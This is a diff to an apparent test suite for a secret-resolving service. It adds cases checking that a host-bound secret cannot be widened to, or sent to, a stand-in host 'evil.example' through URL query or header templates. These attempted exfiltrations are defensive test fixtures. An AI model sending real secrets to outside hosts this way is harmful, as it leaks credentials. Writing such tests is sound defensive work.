@@ -179,6 +179,23 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
         "create moved",
         admin.CreateSecret(spb.CreateSecretRequest(name="canary_moved", value=value)),
     )
+    await ex.ok(
+        "create bound",
+        admin.CreateSecret(
+            spb.CreateSecretRequest(
+                name="canary_bound", value=value, allowed_hosts=["api.example.com"]
+            )
+        ),
+    )
+    await ex.fails(
+        "widen hosts without a value",
+        admin.UpdateSecret(
+            spb.UpdateSecretRequest(
+                name="canary_bound", allowed_hosts=spb.HostList(hosts=["evil.example"])
+            )
+        ),
+        Code.FAILED_PRECONDITION,
+    )
     for label, request, code in [
         ("duplicate", spb.CreateSecretRequest(name="CANARY_KEY", value=value), Code.ALREADY_EXISTS),
         ("bad name", spb.CreateSecretRequest(name="bad name!", value=value), Code.INVALID_ARGUMENT),
@@ -347,9 +364,48 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
             Code.RESOURCE_EXHAUSTED,
         ),
         ("no fields", [], Code.INVALID_ARGUMENT),
+        (
+            "bound secret to another host",
+            [field_("u", "https://evil.example/?k={{secret:canary_bound}}", URL)],
+            Code.PERMISSION_DENIED,
+        ),
+        (
+            "bound secret in a header, URL elsewhere",
+            [
+                field_("u", "https://evil.example/collect", URL),
+                field_("h", "Bearer {{secret:canary_bound}}", HEADER),
+            ],
+            Code.PERMISSION_DENIED,
+        ),
+        (
+            "bound secret without a destination",
+            [field_("h", "{{secret:canary_bound}}", HEADER)],
+            Code.PERMISSION_DENIED,
+        ),
     ]
     for label, fields, code in failing:
         await ex.fails(label, resolver.ResolveTemplate(resolve(fields)), code)
+    await ex.fails(
+        "strict near miss",
+        resolver.ResolveTemplate(
+            resolve([field_("a", "{{secret:canary_key}} {{secrets:canary_key}}")], strict=True)
+        ),
+        Code.INVALID_ARGUMENT,
+    )
+    await ex.fails(
+        "bound secret, wrong destination_host",
+        resolver.ResolveTemplate(
+            resolve([field_("h", "{{secret:canary_bound}}", HEADER)], destination_host="x.example")
+        ),
+        Code.PERMISSION_DENIED,
+    )
+    await ex.fails(
+        "bad tool",
+        resolver.ResolveTemplate(
+            rpb.ResolveTemplateRequest(fields=good_fields, inputs=good_inputs, tool="bad tool!")
+        ),
+        Code.INVALID_ARGUMENT,
+    )
     for label, denied in (("admin", admin_resolver), ("viewer", viewer_resolver)):
         await ex.fails(
             f"{label} resolve",
@@ -392,7 +448,12 @@ async def test_the_value_appears_only_in_the_resolvers_resolve_response(
     )
     monkeypatch.setattr(vault.runtime.vault, "envelope", real)
 
-    check_fields = [*good_fields, *(f for _, fs, _ in failing[:10] for f in fs)]
+    check_fields = [
+        *good_fields,
+        *(f for _, fs, _ in failing[:10] for f in fs),
+        # suggestions (canary_key, canary_json...) and a near miss with its fix
+        field_("typo", "{{secret:canary_kye}} {{secrets:canary_key}} {{config:api_hots}}"),
+    ]
     for label, checker in (("admin", admin_resolver), ("viewer", viewer_resolver), ("r", resolver)):
         await ex.ok(
             f"{label} check", checker.CheckTemplate(rpb.CheckTemplateRequest(fields=check_fields))
